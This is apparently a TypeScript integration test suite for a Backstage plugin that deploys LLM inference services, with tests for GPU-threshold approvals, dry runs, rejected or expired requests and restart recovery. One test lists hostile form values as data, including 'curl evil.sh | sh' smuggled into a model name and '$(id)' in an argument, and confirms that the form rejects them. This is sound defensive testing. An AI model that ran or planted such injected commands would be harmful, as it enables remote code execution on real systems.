/*
 * Copyright 2026 The FusionInfer Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

import fs from 'fs';
import os from 'os';
import path from 'path';
import request from 'supertest';
import knexFactory from 'knex';
import { startDevCluster, DevCluster } from '@fusioninfer/dev-cluster';
import { ClusterClient, KINDS } from '@fusioninfer/plugin-fusioninfer-node';
import { devClusterConfig, waitFor } from '@fusioninfer/test-utils';
import {
  as,
  runTemplate,
  Server,
  startBackend,
  taskResult,
  templateEntities,
} from '../__testUtils__/harness';
import { startCountingProxy } from '../__testUtils__/countingProxy';

jest.setTimeout(90000);

const API = '/api/fusioninfer';
const ALICE = 'user:default/alice'; // the second person
const OWNER = 'group:default/ml-platform';
const chat = {
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Component',
  metadata: { name: 'chat', namespace: 'default' },
  spec: { type: 'service', lifecycle: 'production', owner: OWNER },
};

/** "Deploy an LLM" form values: a monolithic model (1 GPU) behind a prefix-cache router. */
const monolithic = (name: string) => ({
  name,
  model: 'Qwen/Qwen3-8B',
  image: 'vllm/vllm-openai:v0.27.1',
  topology: 'monolithic',
  worker: { replicas: 1, gpusPerPod: 1 },
  routing: 'prefix-cache',
  gateway: { name: 'inference-gateway' },
  cluster: 'dev',
  namespace: 'default',
  owner: OWNER,
  waitUntilReady: true,
});

/** P/D with (1 + decode) × 4 GPUs: above the 8-GPU threshold, so it needs approval. */
const pd = (name: string, decode = 2, extra: object = {}) => ({
  name,
  model: 'Qwen/Qwen3-8B',
  image: 'vllm/vllm-openai:v0.27.1',
  topology: 'pd',
  prefill: { replicas: 1, gpusPerPod: 4 },
  decode: { replicas: decode, gpusPerPod: 4 },
  kvTransfer: { connector: 'NixlConnector' },
  routing: 'pd-disaggregation',
  gateway: { name: 'inference-gateway' },
  cluster: 'dev',
  namespace: 'default',
  owner: OWNER,
  waitUntilReady: true,
  ...extra,
});

const decide = (server: Server, id: string, approve: boolean, user = ALICE) =>
  request(server)
    .post(`${API}/approvals/${id}/decision`)
    .set(as(user))
    .send({ approve, comment: approve ? 'ok' : 'too many GPUs' });

const pendingFor = async (server: Server, name: string) =>
  waitFor(
    async () => {
      const r = await request(server).get(
        `${API}/approvals?status=pending&name=${name}`,
      );
      return r.body.items?.[0];
    },
    { what: `a pending approval request for ${name}` },
  );

const isReady = async (server: Server, name: string) => {
  const r = await request(server).get(
    `${API}/clusters/dev/namespaces/default/services/${name}`,
  );
  return (
    r.status === 200 &&
    r.body.status?.conditions?.some(
      (c: any) => c.type === 'Active' && c.status === 'True',
    )
  );
};

describe('"Deploy an LLM" through /api/scaffolder/v2 against the development cluster', () => {
  let dev: DevCluster;
  let client: ClusterClient;
  let proxy: Awaited<ReturnType<typeof startCountingProxy>>;
  beforeAll(async () => {
    // 8 nodes × 8 GPUs: room for every service these tests deploy (1 + 3 × 12 GPUs).
    dev = await startDevCluster({
      nodes: Array.from({ length: 8 }, (_, i) => ({
        name: `gpu-${i}`,
        gpus: 8,
      })),
      simulation: { podStartupDelayMs: 30 },
    });
    proxy = await startCountingProxy(dev.url);
    client = new ClusterClient(devClusterConfig(dev.url));
  });
  afterAll(async () => {
    await proxy.close();
    await dev.close();
  });
  const service = (name: string) =>
    client.get<any>(KINDS.InferenceService, 'default', name);

  it('deploys a monolithic model that becomes Ready and shows on the linked entity', async () => {
    const backend = await startBackend(proxy.url, { entities: [chat] });
    try {
      const { server } = backend;
      expect(await service('qwen-chat')).toBeUndefined();

      const result = await taskResult(
        server,
        await runTemplate(server, 'fusioninfer-deploy-llm', {
          ...monolithic('qwen-chat'),
          entityRef: 'component:default/chat',
        }),
        60000,
      );
      expect(result.error).toBeUndefined();
      expect(result.status).toBe('completed');
      expect(result.log).toEqual(
        expect.arrayContaining([
          expect.stringMatching(
            /^render: default\/qwen-chat: \d+ children .* 2 pods, 1 GPU, routing prefix-cache/,
          ),
          expect.stringMatching(
            /^apply: Created dev\/default\/qwen-chat; entity component:default\/chat: http:\/\/portal.test\/catalog\/default\/component\/chat\/inference/,
          ),
          'apply: dev/default/qwen-chat is Ready',
        ]),
      );
      expect(
        result.log.filter(l => l.startsWith('apply: dev/default/qwen-chat: '))
          .length,
      ).toBeGreaterThan(1); // progress lines
      expect(result.output.links).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            title: 'Inference tab',
            url: '/catalog/default/component/chat/inference',
          }),
          expect.objectContaining({
            title: 'Catalog entity',
            entityRef: 'component:default/chat',
          }),
        ]),
      );
      const live = await service('qwen-chat');
      expect(live.metadata.annotations).toEqual({
        'backstage.io/entity-ref': 'component:default/chat',
        'fusioninfer.io/owner': OWNER,
      });
      expect(proxy.applies('default', 'qwen-chat')).toBe(1);
      const entity = await request(server).get(
        `${API}/entities/component/default/chat/services`,
      );
      expect(entity.status).toBe(200);
      expect(entity.body.items).toEqual([
        expect.objectContaining({
          cluster: 'dev',
          namespace: 'default',
          name: 'qwen-chat',
        }),
      ]);
    } finally {
      await backend.stop();
    }
  });

  it('refuses hostile form values with field errors and never applies', async () => {
    const backend = await startBackend(proxy.url);
    try {
      const { server } = backend;
      // The scaffolder checks the values against the form before a task exists.
      for (const bad of [
        { worker: { replicas: '3' } },
        { worker: { replicas: 100000 } },
        { model: 'Qwen/Qwen3-8B; curl evil.sh | sh' },
        {
          worker: { replicas: 1, extraArgs: ['--served-model-name', '$(id)'] },
        },
        { name: 'Evil_Name' },
      ]) {
        const res = await request(server)
          .post('/api/scaffolder/v2/tasks')
          .send({
            templateRef: 'template:default/fusioninfer-deploy-llm',
            values: { ...monolithic('hostile'), ...bad },
          });
        expect(res.status).toBe(400);
      }
      // A name that passes the form but makes a child name too long for Kubernetes: the render step fails (its
      // message for every kind of bad value is unit-tested in actions/render.test.ts), the apply step is skipped.
      const result = await taskResult(
        server,
        await runTemplate(
          server,
          'fusioninfer-deploy-llm',
          monolithic('h'.repeat(40)),
        ),
      );
      expect(result.status).toBe('failed');
      expect(result.error).toMatch(
        /^The deployment parameters are not valid:\n {2}parameters\.name: the LeaderWorkerSet name "h{40}-inference-0" \(52 characters\) would be longer than 50/,
      );
      expect(result.log.filter(l => l.startsWith('apply:'))).toEqual([
        'apply: Skipping step apply because a previous step failed',
      ]);
      expect(
        proxy.calls.filter(
          c => c.method === 'PATCH' && c.path.includes('/inferenceservices/h'),
        ),
      ).toEqual([]);
    } finally {
      await backend.stop();
    }
  });

  it('dry-runs the templates in the template editor without touching the cluster', async () => {
    const backend = await startBackend(proxy.url, {
      entities: [
        {
          ...chat,
          metadata: {
            name: 'qwen-dry',
            namespace: 'default',
            annotations: { 'fusioninfer.io/service': 'dev/default/qwen-dry' },
          },
        },
      ],
    });
    try {
      const { server } = backend;
      const template = (name: string) =>
        templateEntities().find(t => t.metadata.name === name);
      const before = proxy.calls.length;
      const dry = await request(server)
        .post('/api/scaffolder/v2/dry-run')
        .send({
          template: template('fusioninfer-deploy-llm'),
          values: pd('qwen-dry', 2, { waitForApproval: true }),
          directoryContents: [],
        });
      expect(dry.status).toBe(200);
      const log = dry.body.log.map((l: any) => l.body.message).join('\n');
      expect(log).toContain(
        'Dry run: dev/default/qwen-dry would request 12 GPUs in 4 pods; approval required (12 GPUs requested; more than 8 need approval). Nothing applied.',
      );
      expect(dry.body.steps.map((st: any) => st.id)).toEqual([
        'render',
        'apply',
        'approval',
      ]);
      // The dry run shows the InferenceService it would apply: in the log and as an output text.
      expect(log).toMatch(
        /kind: InferenceService\nmetadata:\n {2}name: qwen-dry/,
      );
      const manifestText = dry.body.output.text.find(
        (t: any) => t.title === 'InferenceService',
      );
      expect(manifestText.content).toMatch(
        /^```yaml\napiVersion: fusioninfer.io\/v1alpha1\nkind: InferenceService\n[\s\S]*name: qwen-dry[\s\S]*```/,
      );
      const decommission = await request(server)
        .post('/api/scaffolder/v2/dry-run')
        .send({
          template: template('fusioninfer-decommission-model'),
          values: { entity: 'component:default/qwen-dry', confirm: 'qwen-dry' },
          directoryContents: [],
        });
      expect(decommission.status).toBe(200);
      expect(
        decommission.body.log.map((l: any) => l.body.message).join('\n'),
      ).toContain(
        'Dry run: would delete dev/default/qwen-dry and its children. Nothing deleted.',
      );
      // Nothing stored, nothing applied: the backend read the live service (to compare GPUs) and wrote nothing.
      expect(
        proxy.calls
          .slice(before)
          .filter(c => c.method !== 'GET' && c.path.includes('qwen-dry')),
      ).toEqual([]);
      expect(await service('qwen-dry')).toBeUndefined();
      const approvals = await request(server).get(
        `${API}/approvals?name=qwen-dry`,
      );
      expect(approvals.body.items).toEqual([]);
    } finally {
      await backend.stop();
    }
  });

  it('times out naming the gang that cannot be placed', async () => {
    // A test template: the module's actions with a short wait.
    const shortWait = {
      apiVersion: 'scaffolder.backstage.io/v1beta3',
      kind: 'Template',
      metadata: { name: 'short-wait', namespace: 'default' },
      spec: {
        type: 'test',
        parameters: [{ properties: {} }],
        steps: [
          {
            id: 'render',
            action: 'fusioninfer:service:render',
            input: { parameters: '${{ parameters }}', files: 'none' },
          },
          {
            id: 'apply',
            action: 'fusioninfer:service:apply',
            input: {
              cluster: 'dev',
              namespace: 'default',
              manifest: '${{ steps.render.output.manifest }}',
              wait: true,
              timeoutSeconds: 6,
            },
          },
        ],
      },
    };
    const backend = await startBackend(proxy.url, {
      entities: [shortWait],
      approvals: { maxGpusWithoutApproval: 1000 },
    });
    try {
      const { server } = backend;
      // Two pods of 16 GPUs each, gang-scheduled: no node has more than 8.
      const result = await taskResult(
        server,
        await runTemplate(server, 'short-wait', {
          ...monolithic('too-big'),
          topology: 'multi-node',
          worker: { replicas: 1, nodeCount: 2, gpusPerPod: 16 },
        }),
      );
      expect(result.status).toBe('failed');
      // Volcano's verdict once it has tried (Unschedulable with its message), before that the unscheduled gang.
      expect(result.error).toMatch(
        /^dev\/default\/too-big is not Ready after 6 s\. Still missing: PodGroup too-big (cannot be placed \(gang of 2 pods\): .*|is Pending \(inference-0: 0\/2 scheduled\)); role inference: 0\/1 replicas ready/,
      );
      expect(result.log).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^apply: Created dev\/default\/too-big/),
        ]),
      );
    } finally {
      await backend.stop();
    }
  });

  it('holds a P/D deployment above the GPU threshold until a second person approves it, then applies it once', async () => {
    const backend = await startBackend(proxy.url);
    try {
      const { server, notifications } = backend;
      const taskId = await runTemplate(
        server,
        'fusioninfer-deploy-llm',
        pd('qwen-pd', 2, { waitForApproval: true }),
      );
      const pending = await pendingFor(server, 'qwen-pd');
      expect(pending).toMatchObject({
        requestedBy: 'user:default/mock',
        taskId,
        reasons: ['12 GPUs requested; more than 8 need approval'],
      });
      expect(await service('qwen-pd')).toBeUndefined();
      expect(proxy.applies('default', 'qwen-pd')).toBe(0);
      expect(notifications).toContainEqual(
        expect.objectContaining({
          recipients: expect.objectContaining({
            entityRef: expect.arrayContaining([OWNER]),
          }),
          payload: expect.objectContaining({
            link: `/fusioninfer/approvals/${pending.id}`,
          }),
        }),
      );
      // Four eyes: the requester cannot approve their own deployment.
      expect(
        (await decide(server, pending.id, true, 'user:default/mock')).status,
      ).toBe(403);
      expect(await service('qwen-pd')).toBeUndefined();

      const approved = await decide(server, pending.id, true);
      expect(approved.status).toBe(200);
      const result = await taskResult(server, taskId, 60000);
      expect(result.error).toBeUndefined();
      expect(result.status).toBe('completed');
      expect(result.log).toEqual(
        expect.arrayContaining([
          expect.stringMatching(
            new RegExp(
              `^apply: dev/default/qwen-pd needs approval \\(12 GPUs requested; more than 8 need approval\\)\\. Nothing was applied\\. Approval request ${pending.id}: http://portal\\.test/fusioninfer/approvals/${pending.id}`,
            ),
          ),
          `approval: approval request ${pending.id}: approved (applied)`,
          'approval: dev/default/qwen-pd is Ready',
        ]),
      );
      expect(result.output.links).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            title: 'Approval request',
            url: `/fusioninfer/approvals/${pending.id}`,
          }),
          expect.objectContaining({
            title: 'Inference tab',
            url: '/catalog/default/component/qwen-pd.default.dev/inference',
          }),
        ]),
      );
      expect(await isReady(server, 'qwen-pd')).toBe(true);
      const request_ = await request(server).get(
        `${API}/approvals/${pending.id}`,
      );
      expect(request_.body).toMatchObject({
        status: 'approved',
        decidedBy: ALICE,
        execution: { state: 'applied' },
      });
      expect(proxy.applies('default', 'qwen-pd')).toBe(1);
      expect(
        (await service('qwen-pd')).spec.roles.map((r: any) => r.name),
      ).toEqual(['router', 'prefill', 'decode']);
    } finally {
      await backend.stop();
    }
  });

  it('applies nothing for rejected and expired requests', async () => {
    const backend = await startBackend(proxy.url, {
      approvals: { ttlHours: 0.0005 }, // 1.8 s
    });
    try {
      const { server } = backend;
      const rejectedTask = await runTemplate(
        server,
        'fusioninfer-deploy-llm',
        pd('qwen-rejected', 2, { waitForApproval: true }),
      );
      const r = await pendingFor(server, 'qwen-rejected');
      expect((await decide(server, r.id, false)).body.status).toBe('rejected');
      const rejected = await taskResult(server, rejectedTask, 30000);
      expect(rejected.status).toBe('failed');
      expect(rejected.error).toBe(
        `approval request ${r.id} was rejected by ${ALICE}: too many GPUs; nothing was applied`,
      );

      const expiredTask = await runTemplate(
        server,
        'fusioninfer-deploy-llm',
        pd('qwen-expired', 2, { waitForApproval: true }),
      );
      const expired = await taskResult(server, expiredTask, 30000);
      expect(expired.status).toBe('failed');
      expect(expired.error).toMatch(
        /^approval request .* was expired; nothing was applied$/,
      );

      for (const name of ['qwen-rejected', 'qwen-expired']) {
        expect(await service(name)).toBeUndefined();
        expect(proxy.applies('default', name)).toBe(0);
      }
    } finally {
      await backend.stop();
    }
  });

  it('never applies a manifest that changed after the approval request', async () => {
    const backend = await startBackend(proxy.url);
    try {
      const { server } = backend;
      // Request for 2 decoders, then the user changes the form to 3 decoders and runs it again.
      const first = await taskResult(
        server,
        await runTemplate(
          server,
          'fusioninfer-deploy-llm',
          pd('qwen-change', 2),
        ),
      );
      const second = await taskResult(
        server,
        await runTemplate(
          server,
          'fusioninfer-deploy-llm',
          pd('qwen-change', 3),
        ),
      );
      const id2 = second.log
        .join('\n')
        .match(/Approval request ([0-9a-f-]{36})/)![1];
      const id1 = first.log
        .join('\n')
        .match(/Approval request ([0-9a-f-]{36})/)![1];
      expect(id2).not.toBe(id1); // a changed manifest needs its own request
      expect((await decide(server, id1, true)).status).toBe(200);
      await waitFor(() => service('qwen-change'), {
        what: 'the approved service',
      });
      // Exactly the approved manifest (2 decoders) was applied; the changed one still waits.
      expect((await service('qwen-change')).spec.roles[2].replicas).toBe(2);
      expect(proxy.applies('default', 'qwen-change')).toBe(1);
      const still = await request(server).get(`${API}/approvals/${id2}`);
      expect(still.body.status).toBe('pending');
      expect(still.body.execution).toBeUndefined();
      // Re-running with the changed form after the approval is held again and changes nothing.
      const third = await taskResult(
        server,
        await runTemplate(
          server,
          'fusioninfer-deploy-llm',
          pd('qwen-change', 3),
        ),
      );
      expect(third.status).toBe('completed');
      expect(third.log.join('\n')).toContain('needs approval');
      expect((await service('qwen-change')).spec.roles[2].replicas).toBe(2);
      expect(proxy.applies('default', 'qwen-change')).toBe(1);
    } finally {
      await backend.stop();
    }
  });

  it('applies exactly once when the backend restarts between approval and apply', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fi-restart-'));
    try {
      const first = await startBackend(proxy.url, { databaseDir: dir });
      const held = await taskResult(
        first.server,
        await runTemplate(
          first.server,
          'fusioninfer-deploy-llm',
          pd('qwen-restart'),
        ),
      );
      const id = held.log
        .join('\n')
        .match(/Approval request ([0-9a-f-]{36})/)![1];
      await first.stop();
      // The decision was recorded, then the backend died before applying (as if it crashed right after the commit).
      const db = knexFactory({
        client: 'better-sqlite3',
        connection: { filename: path.join(dir, 'fusioninfer.sqlite') },
        useNullAsDefault: true,
      });
      expect(
        await db('fusioninfer_approvals')
          .where({ id, status: 'pending' })
          .update({
            status: 'approved',
            decided_by: ALICE,
            decided_at: new Date(),
          }),
      ).toBe(1);
      await db.destroy();
      expect(await service('qwen-restart')).toBeUndefined();

      const second = await startBackend(proxy.url, { databaseDir: dir });
      try {
        await waitFor(() => service('qwen-restart'), {
          what: 'the recovered apply',
        });
        const after = await request(second.server).get(
          `${API}/approvals/${id}`,
        );
        expect(after.body.execution).toMatchObject({ state: 'applied' });
        await waitFor(() => isReady(second.server, 'qwen-restart'), {
          timeoutMs: 30000,
          what: 'qwen-restart to be Ready',
        });
      } finally {
        await second.stop();
      }
      // A further restart finds nothing left to apply.
      const third = await startBackend(proxy.url, { databaseDir: dir });
      await new Promise(r => setTimeout(r, 500));
      await third.stop();
      expect(proxy.applies('default', 'qwen-restart')).toBe(1);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
